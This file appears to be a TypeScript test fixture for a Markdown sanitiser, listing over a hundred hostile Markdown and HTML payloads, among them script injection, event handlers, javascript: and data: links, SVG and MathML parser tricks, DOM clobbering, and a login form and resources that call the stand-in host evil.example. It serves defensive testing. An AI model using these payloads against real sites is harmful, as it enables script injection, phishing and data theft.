/**
 * Hostile Markdown and HTML, one payload of its own kind each. Whatever runs sets `window.__ran`; whatever is fetched is on
 * `evil.example`. `swallows` marks what Markdown itself takes to reach to the end of the file, so that nothing behind it is text.
 */
export interface Payload {
  kind: string;
  markdown: string;
  swallows?: true;
}

const RUN = 'window.__ran=1';

export const PAYLOADS: readonly Payload[] = [
  // Scripts
  { kind: 'a script', markdown: `<script>${RUN}</script>` },
  { kind: 'a script within a sentence', markdown: `Words <script>${RUN}</script> and words.` },
  { kind: 'a script from elsewhere', markdown: '<script src="https://evil.example/x.js"></script>' },
  { kind: 'a module script', markdown: `<script type="module">${RUN}</script>` },
  { kind: 'a script in upper case with a space', markdown: `<SCRIPT\n >${RUN}</SCRIPT >` },
  { kind: 'a script with a slash', markdown: `<script/x>${RUN}</script>` },
  { kind: 'a script in a script', markdown: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { kind: 'a script never closed', markdown: `<script>${RUN}`, swallows: true },
  { kind: 'a script behind a stray bracket', markdown: `<<script>${RUN}//<</script>` },
  { kind: 'a script in a list item', markdown: `- item <script>${RUN}</script>\n- item` },
  { kind: 'a script in a quotation', markdown: `> <script>${RUN}</script>` },
  { kind: 'a script in a heading', markdown: `## Head <script>${RUN}</script>` },
  { kind: 'a script in a cell', markdown: `| a | b |\n|---|---|\n| <script>${RUN}</script> | c |` },
  { kind: 'a script in fenced code', markdown: `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\`` },
  { kind: 'a fence with a hostile language', markdown: '```"><img/src/onerror=window.__ran=1>\ncode\n```' },
  { kind: 'a script in code', markdown: `Code \`</code><script>${RUN}</script>\` in a sentence.` },
  { kind: 'a script as entities', markdown: `&lt;script&gt;${RUN}&lt;/script&gt;` },
  { kind: 'a script as numbers', markdown: `&#60;script&#62;${RUN}&#x3C;/script&#x3e;` },
  { kind: 'a script with null bytes', markdown: `<scr\0ipt>${RUN}</scr\0ipt><\0script>${RUN}</script>` },
  { kind: 'a script in full-width brackets', markdown: `＜script＞${RUN}＜/script＞` },
  {
    kind: 'a script of speculation rules',
    markdown: '<script type="speculationrules">{"prerender":[{"urls":["/x"]}]}</script>',
  },
  {
    kind: 'an import map',
    markdown: '<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>',
  },

  // Handlers
  { kind: 'an image that fails', markdown: `<img src=x onerror="${RUN}">` },
  { kind: 'an image without spaces', markdown: `<img/src=x/onerror=${RUN}>` },
  { kind: 'an image with back ticks', markdown: `<img src=\`x\` onerror=${RUN}>` },
  { kind: 'a handler on a paragraph', markdown: `<p onclick="${RUN}" onmouseover="${RUN}">Words of it.</p>` },
  {
    kind: 'a handler on a link',
    markdown: `<a href="https://example.org" onfocus="${RUN}" autofocus>Words</a>`,
  },
  { kind: 'a handler split by a line end', markdown: `<img src=x\nonerror\n="${RUN}">` },
  { kind: 'a handler with entities', markdown: '<img src=x onerror="&#119;indow.__ran&equals;1">' },
  {
    kind: 'a handler of an animation',
    markdown: `<b style="animation:x 1s" onanimationstart="${RUN}">Words</b>`,
  },
  {
    kind: 'a handler of a toggle',
    markdown: `<details open ontoggle="${RUN}"><summary>Words</summary></details>`,
  },
  { kind: 'a body that loads', markdown: `<body onload="${RUN}" onpageshow="${RUN}">` },
  { kind: 'a marquee that starts', markdown: `<marquee onstart="${RUN}">Words</marquee>` },
  { kind: 'a video that fails', markdown: `<video><source onerror="${RUN}" src=x></video>` },
  { kind: 'an audio that fails', markdown: `<audio src=x onerror="${RUN}" autoplay></audio>` },
  { kind: 'an input with focus', markdown: `<input onfocus="${RUN}" autofocus>` },
  { kind: 'a handler behind a control character', markdown: `<img src=x \u000Conerror\u000C=${RUN}>` },
  {
    kind: 'a popover that toggles',
    markdown: `<div popover id=x onbeforetoggle="${RUN}">Words</div><button popovertarget=x>Words</button>`,
  },
  { kind: 'a custom element', markdown: `<x-words onclick="${RUN}" is="x-other">Words</x-words>` },

  // Links
  { kind: 'a link to javascript', markdown: `[Words](javascript:${RUN})` },
  { kind: 'a link to javascript in mixed case', markdown: `[Words](JaVaScRiPt:${RUN})` },
  { kind: 'a link to javascript in entities', markdown: `[Words](&#106;avascript&colon;${RUN})` },
  { kind: 'a link to javascript over a tab', markdown: `<a href="java\tscript:${RUN}">Words</a>` },
  { kind: 'a link to javascript over an encoded line end', markdown: `[Words](java&#10;script:${RUN})` },
  { kind: 'a link to javascript behind a control character', markdown: `[Words](&#1;javascript:${RUN})` },
  {
    kind: 'a link to javascript with a comment',
    markdown: `<a href="javascript://example.org/%0a${RUN}">Words</a>`,
  },
  { kind: 'a reference to javascript', markdown: `[Words][evil]\n\n[evil]: javascript:${RUN} "title"` },
  { kind: 'an autolink to javascript', markdown: `<javascript:${RUN}>` },
  { kind: 'a link to vbscript', markdown: `[Words](vbscript:msgbox(1))` },
  { kind: 'a link to data', markdown: `[Words](data:text/html,<script>${RUN}</script>)` },
  {
    kind: 'a link to data in base64',
    markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Words</a>',
  },
  { kind: 'a link to a file', markdown: '[Words](file:///etc/passwd)' },
  { kind: 'a link to a blob', markdown: '[Words](blob:https://evil.example/x)' },
  {
    kind: 'a link that runs by its title',
    markdown: `[Words](https://example.org 'x" onmouseover="${RUN}')`,
  },
  { kind: 'a link that runs by its address', markdown: `[Words](https://example.org/"onmouseover="${RUN})` },
  {
    kind: 'a link with a ping and a target',
    markdown: '<a href="https://example.org" ping="https://evil.example/p" target="_top" download>Words</a>',
  },
  { kind: 'a link in a link', markdown: `[Words [more](javascript:${RUN})](https://example.org)` },
  { kind: 'an image that is javascript', markdown: `![Words](javascript:${RUN})` },
  { kind: 'an image from elsewhere', markdown: '![Words](https://evil.example/pixel.gif)' },
  { kind: 'an image with a hostile description', markdown: `![x" onerror="${RUN}](https://evil.example/y)` },
  { kind: 'an image that is a link', markdown: `[![Words](https://evil.example/a.png)](javascript:${RUN})` },
  {
    kind: 'a set of images',
    markdown: `<img srcset="https://evil.example/a 1x, https://evil.example/b 2x" sizes="1px">`,
  },
  {
    kind: 'a picture',
    markdown: '<picture><source srcset="https://evil.example/c"><img src="https://evil.example/d"></picture>',
  },
  {
    kind: 'an area of a map',
    markdown: `<map name=m><area shape=default href="javascript:${RUN}"></map><img usemap="#m">`,
  },
  {
    kind: 'a hint to fetch',
    markdown:
      '<link rel=preload as=image href="https://evil.example/e"><link rel=dns-prefetch href="//evil.example">',
  },

  // Foreign content
  { kind: 'SVG that loads', markdown: `<svg onload="${RUN}"><circle r=1></svg>` },
  { kind: 'SVG with a script', markdown: `<svg><script>${RUN}</script></svg>` },
  { kind: 'SVG with a script as data', markdown: `<svg><script href="data:,${RUN}"/></svg>` },
  {
    kind: 'SVG with a link',
    markdown: `<svg><a xlink:href="javascript:${RUN}"><text y=9>Words</text></a></svg>`,
  },
  {
    kind: 'SVG that animates a link',
    markdown: `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>Words</text></a></svg>`,
  },
  {
    kind: 'SVG that uses another',
    markdown: '<svg><use href="https://evil.example/u.svg#x"/><image href="https://evil.example/i"/></svg>',
  },
  {
    kind: 'SVG with foreign HTML',
    markdown: `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  },
  {
    kind: 'SVG with a hidden end',
    markdown: `<svg><style><img src="</style><img src=x onerror=${RUN}>"></svg>`,
  },
  {
    kind: 'MathML with a link',
    markdown: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">Words</maction></math>`,
  },
  {
    kind: 'MathML that changes the parser',
    markdown: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  },
  {
    kind: 'MathML with annotated HTML',
    markdown: `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  },
  {
    kind: 'a form that swaps the parser',
    markdown: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  },
  {
    kind: 'a title that ends elsewhere',
    markdown: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  },

  // Styles
  {
    kind: 'a style sheet',
    markdown: '<style>*{display:none!important;background:url(https://evil.example/s)}</style>',
  },
  {
    kind: 'a style sheet from elsewhere',
    markdown: '<link rel=stylesheet href="https://evil.example/s.css">',
  },
  { kind: 'an imported style sheet', markdown: '<style>@import "https://evil.example/i.css";</style>' },
  {
    kind: 'a style over the whole page',
    markdown: '<div style="position:fixed;inset:0;background:red;z-index:9">Words of it.</div>',
  },
  {
    kind: 'a style that fetches',
    markdown: '<b style="background-image:url(https://evil.example/b)">Words</b>',
  },
  {
    kind: 'old presentation',
    markdown:
      '<font color=red size=7 face="x">Words</font><table background="https://evil.example/t"><td>Words</table>',
  },
  {
    kind: 'classes of our own',
    markdown: '<div class="receipt slip badge" hidden aria-hidden=true role=alert>Words of it.</div>',
  },

  // Pages in the page
  { kind: 'a refresh', markdown: `<meta http-equiv="refresh" content="0;url=https://evil.example/r">` },
  {
    kind: 'a refresh to javascript',
    markdown: `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  },
  { kind: 'a base', markdown: '<base href="https://evil.example/">' },
  {
    kind: 'a policy of its own',
    markdown: `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  },
  { kind: 'a frame', markdown: '<iframe src="https://evil.example/f"></iframe>' },
  { kind: 'a frame with a document', markdown: `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>` },
  { kind: 'a frame that is javascript', markdown: `<iframe src="javascript:parent.__ran=1"></iframe>` },
  { kind: 'an object', markdown: `<object data="data:text/html,<script>parent.__ran=1</script>"></object>` },
  { kind: 'an embed', markdown: `<embed src="javascript:${RUN}" type="text/html">` },
  {
    kind: 'an applet and a frame set',
    markdown: `<applet code=x></applet><frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  },
  { kind: 'a portal', markdown: `<portal src="https://evil.example/p"></portal><fencedframe></fencedframe>` },

  // Forms
  {
    kind: 'a form',
    markdown:
      '<form action="https://evil.example/login"><input name=password><button>Sign in</button></form>',
  },
  {
    kind: 'a button that runs',
    markdown: `<form id=f></form><button form=f formaction="javascript:${RUN}">Words</button>`,
  },
  { kind: 'a text area never closed', markdown: `<textarea>Words <script>${RUN}</script>`, swallows: true },
  { kind: 'a choice', markdown: `<select onchange="${RUN}"><option>Words</option></select>` },
  { kind: 'a dialog', markdown: '<dialog open>Words of it.</dialog>' },

  // Parsers
  { kind: 'a template', markdown: `<template><img src=x onerror="${RUN}"></template>` },
  {
    kind: 'a template with a shadow root',
    markdown: `<div><template shadowrootmode=open><slot></slot><img src=x onerror="${RUN}"></template></div>`,
  },
  {
    kind: 'an attribute that ends the tag',
    markdown: `<p title="</p><script>${RUN}</script>">Words of it.</p>`,
  },
  {
    kind: 'a table out of order',
    markdown: `<table><tr><p>Words<script>${RUN}</script><td>cell<a href="javascript:${RUN}">x</a></table>`,
  },
  {
    kind: 'elements closed in the wrong order',
    markdown: '<b><i><p>Words of</b> it.</i></p></div></main></body></html>',
  },
  { kind: 'the end of the page', markdown: `</article></main></body></html><script>${RUN}</script>` },
  {
    kind: 'elements never closed',
    markdown: '<div><b><i><a href="https://example.org"><ul><li><blockquote>\n\n',
  },
  { kind: 'a text that stays plain', markdown: `<plaintext>${RUN}` },
  {
    kind: 'a list within xmp',
    markdown: `<xmp><script>${RUN}</script></xmp><listing><script>${RUN}</script></listing>`,
  },
  { kind: 'a comment', markdown: `<!-- <script>${RUN}</script> -->` },
  { kind: 'a comment that ends early', markdown: `<!--> <img src=x onerror=${RUN}> -->` },
  { kind: 'a comment with a bang', markdown: `<!-- --!><script>${RUN}</script> -->` },
  { kind: 'a comment never closed', markdown: `<!-- <script>${RUN}</script>`, swallows: true },
  { kind: 'a conditional comment', markdown: `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->` },
  { kind: 'a section of raw text', markdown: `<![CDATA[<script>${RUN}</script>]]>` },
  { kind: 'a section of raw text in SVG', markdown: `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>` },
  {
    kind: 'a processing instruction',
    markdown: `<?xml-stylesheet href="javascript:${RUN}"?> <?php echo 1 ?>`,
  },
  {
    kind: 'a document type',
    markdown: `<!DOCTYPE html SYSTEM "https://evil.example/x.dtd" [<!ENTITY x "y">]>`,
  },
  {
    kind: 'braces of a template language',
    markdown: `{{constructor.constructor('${RUN}')()}} {alert(1)} \${${RUN}} <%= 1 %>`,
  },
  {
    kind: 'a component of Astro',
    markdown: `<Fragment set:html="<img src=x onerror=${RUN}>" /><slot name="x" />`,
  },

  // Ids and names
  {
    kind: 'an id that clobbers',
    markdown: '<a id=location name=location href="https://evil.example/c">Words</a><b id=cookie>Words</b>',
  },
  {
    kind: 'a form that clobbers',
    markdown:
      '<form id=document name=forms><input id=getElementById name=querySelector></form><img name=cookie>',
  },
  {
    kind: 'an id of ours',
    markdown: '<span id="s-00000001" data-sentence data-verdict="verified">Words of it.</span>',
  },
  {
    kind: 'a receipt of ours',
    markdown: '<aside class="receipt" id="r-00000001" data-for="s-00000001">Words of it.</aside>',
  },
  { kind: 'a mark of ours', markdown: '<mark data-claim="x" data-verdict="verified">Words of it.</mark>' },
  {
    kind: 'a footnote with a hostile name',
    markdown: `Words.[^x"><img src=x onerror=${RUN}>]\n\n[^x"><img src=x onerror=${RUN}>]: Note <script>${RUN}</script>`,
  },
  {
    kind: 'a definition with a hostile name',
    markdown: `[Words][__proto__] and [words][constructor]\n\n[__proto__]: javascript:${RUN}\n[constructor]: https://example.org`,
  },
  {
    kind: 'microdata and directions',
    markdown:
      '<b itemscope itemtype="https://evil.example" itemprop=x dir=rtl lang=xx accesskey=s contenteditable>Words</b>',
  },
];
